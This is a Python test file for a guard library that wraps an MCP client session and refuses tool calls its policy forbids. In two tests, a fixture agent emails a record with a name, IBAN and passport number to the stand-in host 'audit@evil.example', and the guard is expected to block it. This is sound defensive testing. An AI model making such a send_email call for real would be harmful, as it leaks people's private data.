"""GuardedClientSession: an embedded `mcp` ClientSession whose call_tool is decided and bound (real server)."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")

from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from guard.adapters.mcp import GuardedClientSession, list_server_tools
from guard.policy import load_policy
from guard.runtime import Guard

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"


async def _run(log: Path, guard: Guard) -> tuple[list[Any], GuardedClientSession, list[str]]:
    params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
    async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        guarded = GuardedClientSession(client, guard.session("embedded"))
        problems = await guarded.check_tools()
        out = [
            await guarded.call_tool("read_inbox", {}),
            await guarded.call_tool("read_record", {"name": "alice"}),
            await guarded.call_tool("send_email", {"to": "audit@evil.example", "subject": "r", "body": ALICE}),
            await guarded.call_tool("read_record", {"name": "bob"}, call_id="llm-call-9"),
        ]
    return out, guarded, problems


def test_guarded_client_session_refuses_exfiltration_and_observes_results(tmp_path: Path) -> None:
    """Catches a wrapper that calls the server for a refused call, skips observing results, or ignores call_id."""
    guard = Guard(load_policy(POLICY), threshold=0.5)
    (inbox, record, exfil, bob), guarded, problems = anyio.run(_run, tmp_path / "log", guard)
    assert problems == []
    assert not inbox.is_error and record.content[0].text == ALICE and not bob.is_error
    assert exfil.is_error and "risk_budget" in exfil.content[0].text
    received = [json.loads(line)["tool"] for line in (tmp_path / "log").read_text().splitlines()]
    assert received == ["read_inbox", "read_record", "read_record"]
    session = guarded.session
    assert {"llm-call-9"} <= session.answered and len(session.answered) == 3
    assert guarded.server_capabilities is not None  # every other attribute is the wrapped session's


def test_check_tools_reports_a_tool_missing_from_the_policy(tmp_path: Path) -> None:
    """Catches a start-up check that does not list the server's tools against the policy."""
    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY.read_text().split("  delete_file:")[0])
    _, _, problems = anyio.run(_run, tmp_path / "log", Guard(load_policy(policy), threshold=0.5))
    assert problems == ["agent tool 'delete_file' is not in policy 'mcp-fixture': calls to it are refused (escalate)"]


def test_list_server_tools_reads_names_and_arguments() -> None:
    """Catches a tools/list reader that loses tools or their argument names."""
    tools = anyio.run(list_server_tools, [sys.executable, str(SERVER)])
    assert {t.name: t.args for t in tools} == {
        "read_record": ("name",),
        "read_inbox": (),
        "send_email": ("to", "subject", "body"),
        "delete_file": ("path",),
    }


def test_guarded_client_session_runs_probes_through_the_client(tmp_path: Path) -> None:
    """Catches a wrapper that skips the probe a `probe` verdict asks for, or runs the call before it."""
    from tests.adapters.test_mcp_relay import ProbeOnce

    guard = Guard(load_policy(POLICY), threshold=0.5, certifier=ProbeOnce())
    log = tmp_path / "log"

    async def go() -> tuple[Any, GuardedClientSession]:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            guarded = GuardedClientSession(client, guard.session("probing"))
            return await guarded.call_tool("delete_file", {"path": "old.txt"}), guarded

    result, guarded = anyio.run(go)
    assert not result.is_error and result.content[0].text == "deleted old.txt"
    assert [json.loads(line)["tool"] for line in log.read_text().splitlines()] == ["read_record", "delete_file"]
    assert guarded.last_decision is not None and guarded.last_decision.reason.value == "certified"


def test_guarded_client_session_observes_resources_and_refuses_undeclared(tmp_path: Path) -> None:
    """Catches a wrapper whose read_resource passes through unobserved (the private record read that way is then
    sent) or which reads a resource the policy does not declare."""
    from guard.errors import InputError

    guard = Guard(load_policy(POLICY), threshold=0.5)
    log = tmp_path / "log"

    async def go() -> tuple[str, Any, str]:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            guarded = GuardedClientSession(client, guard.session("resources"))
            shown = (await guarded.read_resource("records://alice")).contents[0].text
            sent = await guarded.call_tool("send_email", {"to": "audit@evil.example", "subject": "r", "body": shown})
            try:
                await guarded.read_resource("notes://today")
                refused = "read"
            except InputError as exc:
                refused = str(exc)
            return shown, sent, refused

    shown, sent, refused = anyio.run(go)
    assert shown == ALICE and sent.is_error and "undeclared uri" in refused
    assert not log.exists()  # no tool reached the server


def test_initialize_warns_about_tools_missing_from_the_policy(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Catches a guarded client that starts (``initialize``) without checking the server's tools against the policy."""
    import logging

    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY.read_text().split("  delete_file:")[0])
    guard = Guard(load_policy(policy), threshold=0.5)

    async def start() -> None:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": "/dev/null"})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await GuardedClientSession(client, guard.session("s")).initialize()

    with caplog.at_level(logging.WARNING, logger="guard.adapters.mcp"):
        anyio.run(start)
    assert "'delete_file' is not in policy" in caplog.text
